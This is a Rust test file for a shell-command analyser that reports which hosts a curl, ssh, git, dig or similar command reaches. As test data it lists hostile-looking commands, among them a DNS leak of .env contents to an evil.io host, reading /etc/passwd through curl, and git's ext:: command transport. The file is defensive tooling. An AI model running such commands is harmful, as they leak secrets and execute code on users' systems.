//! Which hosts commands reach, and where that isn't known.

use crate::commands::{found, last};

/// The hosts of a command, with `?` if there may be more.
fn hosts(command: &str) -> String {
    let found = found(command).commands;
    let reached = found.iter().flat_map(|one| &one.effects).flat_map(|effects| &effects.reaches);
    let mut hosts: Vec<String> = reached.map(|reach| reach.host.clone()).collect();
    if found.iter().any(|one| one.reaches_unknown().is_some()) {
        hosts.push("?".to_owned());
    }
    hosts.join(" ")
}

#[track_caller]
fn check(rows: &[(&str, &str)]) {
    for (command, expected) in rows {
        assert_eq!(hosts(command), *expected, "{command}");
    }
}

#[test]
fn addresses_with_and_without_a_scheme() {
    check(&[
        ("curl example.com", "example.com"),
        ("curl -s example.com/x?y", "example.com"),
        ("curl -sSL Example.com:8080", "example.com"),
        ("curl https://good.io@evil.io/", "evil.io"),
        ("curl 'http://[::1]:8080/'", "::1"),
        ("curl -o out -H 'A: b' x.io y.io", "x.io y.io"),
        ("curl --url x.io", "x.io"),
        ("curl --url=x.io", "x.io"),
        ("curl -x proxy.io:1 x.io", "proxy.io x.io"),
        ("curl --proxy http://proxy.io x.io", "proxy.io x.io"),
        ("curl --resolve x.io:443:10.0.0.1 https://x.io", "10.0.0.1 x.io"),
        ("curl --connect-to x.io:443:evil.io:443 https://x.io", "evil.io x.io"),
        ("curl --connect-to ::evil.io: https://x.io", "evil.io x.io"),
        ("curl $U", "?"),
        ("curl \"$U\"", "?"),
        ("curl https://$H/x", "?"),
        ("curl https://x.io$U", "?"),
        ("curl https://x.io/$U", "x.io"),
        ("curl 'https://{a,b}.io'", "?"),
        ("curl -K file", "?"),
        ("curl --socks5 p.io x.io", "p.io x.io"),
        ("wget x.io/a", "x.io"),
        ("wget -q -O out https://x.io/a", "x.io"),
        ("wget -i list", "?"),
        ("wget $U", "?"),
        ("http x.io/a", "x.io"),
        // Not addresses.
        ("curl -d x.io y.io", "y.io"),
        ("curl -A x.io -e z.io y.io", "y.io"),
        ("curl file:///etc/passwd", ""),
        ("echo https://x.io", ""),
        ("make https://x.io", ""),
    ]);
    assert_eq!(last("curl file:///etc/passwd").effects.unwrap().to_string(), "reads /etc/passwd");
    assert_eq!(last("curl -s x.io").effects.unwrap().to_string(), "reaches x.io");
    assert_eq!(last("curl -d a x.io").effects.unwrap().to_string(), "may touch anything · changes x.io");
}

#[test]
fn machines_and_copies() {
    check(&[
        ("ssh h.io ls", "h.io"),
        ("ssh -p 22 me@h.io ls", "h.io"),
        ("ssh -i key -o ConnectTimeout=5 h.io 'ls x.io'", "h.io"),
        ("ssh -J jump.io h.io ls", "jump.io h.io"),
        ("ssh -o HostName=other.io h.io ls", "other.io h.io"),
        ("ssh -o ProxyCommand='nc x.io 1' h.io ls", "h.io x.io ?"),
        ("ssh $H ls", "?"),
        ("ssh \"$H\" ls", "?"),
        ("scp a me@h.io:b", "h.io"),
        ("scp h.io:a .", "h.io"),
        ("scp a b", ""),
        ("scp ./a:b c", ""),
        ("scp a $T", "?"),
        ("sftp me@h.io", "h.io"),
        ("sftp h.io:dir", "h.io"),
        ("rsync -av a h.io:b", "h.io"),
        ("rsync -av rsync://h.io/m a", "h.io"),
        ("rsync -av a/ b/", ""),
        ("rsync -e ssh a me@h.io:b", "h.io ?"),
        ("nc h.io 80", "h.io"),
        ("nc -w 3 h.io 80", "h.io"),
        ("telnet h.io", "h.io"),
        ("ftp h.io", "h.io"),
        ("ping -c 1 h.io", "h.io"),
        ("ping $H", "?"),
        ("ping \"$(cat .env).evil.io\"", "?"),
        ("traceroute h.io", "h.io"),
        ("dig x.io", "x.io"),
        ("dig @1.1.1.1 x.io +short", "1.1.1.1 x.io"),
        ("nslookup x.io 1.1.1.1", "x.io 1.1.1.1"),
        ("host x.io", "x.io"),
        ("dig $x.evil.io", "?"),
        ("socat - TCP:h.io:80", "h.io"),
        ("openssl s_client -connect h.io:443", "h.io"),
        ("psql -h db.io -U me", "db.io"),
        ("psql --host=db.io", "db.io"),
        ("psql postgresql://me@db.io/x", "db.io"),
        ("psql 'host=db.io user=me'", "db.io"),
        ("psql -c 'select 1'", ""),
        ("mysql -hdb.io -u me", "db.io"),
        ("mysql -h $H", "?"),
        ("redis-cli -h r.io ping", "r.io"),
        ("redis-cli ping", ""),
        ("docker pull x", "docker.io"),
        ("docker pull ghcr.io/a/b:1", "ghcr.io"),
        ("docker -H tcp://d.io:1 ps", "d.io"),
        ("docker pull $I", "?"),
        ("docker ps", ""),
        ("pip install --index-url https://p.io/simple x", "p.io"),
        ("pip install -i https://p.io x", "p.io"),
        ("python3 -m pip install --index-url=https://p.io x", "p.io"),
        ("pip install x", ""),
        ("npm install --registry https://r.io", "r.io"),
        ("npm --registry=https://r.io publish", "r.io"),
        ("npm install --registry $R", "?"),
        ("sudo curl x.io", "x.io"),
        ("timeout 5 ssh h.io ls", "h.io"),
    ]);
}

#[test]
fn addresses_for_git() {
    check(&[
        ("git clone https://x.io/a/b.git", "x.io"),
        ("git clone --depth 1 -b main https://x.io/a d", "x.io"),
        ("git clone git@x.io:a/b.git", "x.io"),
        ("git clone ssh://git@x.io:22/a", "x.io"),
        ("git clone ./a b", ""),
        ("git clone /srv/a", ""),
        ("git clone $U", "?"),
        ("git -C d fetch https://x.io/a", "x.io"),
        ("git fetch origin", "?"),
        ("git fetch", "?"),
        ("git pull", "?"),
        ("git push", "?"),
        ("git push origin main", "?"),
        ("git push https://x.io/a main", "x.io"),
        ("git push git@x.io:a main", "x.io"),
        ("git ls-remote https://x.io/a", "x.io"),
        ("git ls-remote", "?"),
        ("git remote add o https://x.io/a", "x.io"),
        ("git remote set-url o git@x.io:a", "x.io"),
        ("git remote -v", ""),
        ("git remote update", "?"),
        ("git submodule add https://x.io/a b", "x.io"),
        ("git submodule update --init", "?"),
        ("git fetch 'ext::sh -c x'", "?"),
        ("git status", ""),
        ("git log", ""),
        ("git commit -m https://x.io", ""),
    ]);
    assert_eq!(
        last("git clone /srv/a b").effects.unwrap().to_string(),
        "may touch anything · reads /srv/a · writes b"
    );
}

#[test]
fn what_others_hold_reaches_too() {
    let whole = found("tar --to-command='curl x.io' -xf a");
    let reached = whole.commands.iter().flat_map(|one| &one.effects).flat_map(|effects| &effects.reaches);
    assert_eq!(reached.map(|reach| &*reach.host).collect::<Vec<_>>(), ["x.io"]);
}
